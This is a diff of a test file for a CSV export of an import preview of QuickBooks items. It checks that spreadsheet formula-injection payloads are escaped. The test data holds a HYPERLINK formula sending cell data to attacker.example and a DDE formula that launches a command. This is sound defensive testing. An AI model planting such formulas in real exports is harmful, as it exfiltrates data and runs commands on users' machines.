@@ -145,12 +145,12 @@ describe("the import screen's preview", () => {
       .trimEnd()
       .split("\r\n");
     expect(lines[0]).toBe(
-      "Row,QuickBooks item,AI-processed name,Product ID,AI status,Product in database,Price in database,Plan,Final status,Message",
+      "Row,Line,QuickBooks item,Name (English),Name (Spanish),Category,Pack value,Pack unit,Price,SKU,Quantity on hand,Product ID,Action,AI status,Product in database,Price in database,Final status,Message",
     );
     expect(text).toContain(`"'=HYPERLINK(""http://attacker.example/?d=""&A1,""Click for price list"")"`);
     expect(text).toContain("'=cmd|' /C notepad'!'A1'");
     // Nothing in any cell starts a formula (quoted cells start after their quote).
-    for (const line of lines.slice(1)) expect(line.replace(/^"/, "")).not.toMatch(/^[0-9]+,"?[=+\-@\t\r]/);
+    for (const line of lines.slice(1)) expect(line).not.toMatch(/^[0-9]+,[0-9]*,"?[=+\-@\t\r]/);
   });
 });
 
